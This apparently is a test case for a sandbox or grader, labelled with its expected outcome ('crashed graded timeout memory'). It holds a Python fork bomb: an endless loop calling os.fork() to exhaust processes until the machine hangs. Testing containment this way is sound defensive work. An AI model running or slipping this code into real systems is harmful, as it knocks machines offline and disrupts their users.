# Wants: so many processes that the machine stops responding
# Status: crashed graded timeout memory
# Seconds: 3
while True:
    try:
        os.fork()
    except OSError:
        pass
